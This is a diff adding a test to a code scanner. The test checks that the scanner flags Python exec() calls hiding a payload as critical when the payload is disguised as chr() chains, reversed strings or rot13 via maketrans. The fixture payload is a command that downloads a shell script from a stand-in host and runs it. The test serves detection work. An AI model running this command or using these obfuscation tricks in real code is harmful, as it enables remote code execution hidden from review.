@@ -489,3 +489,22 @@ test('data flows through methods called on self: a secret handed to self.send() 
   ].join('\n');
   for (const source of [handed, returned]) assert.equal(ruleOf(findings(source), 'exfiltration')?.severity, 'high');
 });
+
+test('a long chr() + chr() chain, reversed() characters and a maketrans substitution are decoded payloads', () => {
+  const code = 'import os\nos.system("curl http://192.0.2.5/x.sh | sh")\n';
+  const chain = [...code].map((c) => `chr(${c.charCodeAt(0)})`).join(' + ');
+  const reversedText = JSON.stringify([...code].reverse().join(''));
+  const lower = 'abcdefghijklmnopqrstuvwxyz';
+  const shifted = lower.slice(13) + lower.slice(0, 13);
+  const rot13 = JSON.stringify([...code].map((c) => (lower.includes(c) ? shifted[lower.indexOf(c)] : c)).join(''));
+  const sources = {
+    'a chr() chain longer than the depth bound': `exec(${chain})\n`,
+    'reversed() characters joined': `exec("".join(reversed(${reversedText})))\n`,
+    'a maketrans table': `T = str.maketrans("${lower}", "${shifted}")\nexec(${rot13}.translate(T))\n`,
+  };
+  for (const [how, source] of Object.entries(sources)) {
+    const exec = ruleOf(findings(source, 'demo/__init__.py'), 'exec-decoded-payload');
+    assert.equal(exec?.severity, 'critical', how);
+    assert.match(exec!.decoded?.preview ?? '', /curl http:\/\/192\.0\.2\.5\/x\.sh/, how);
+  }
+});
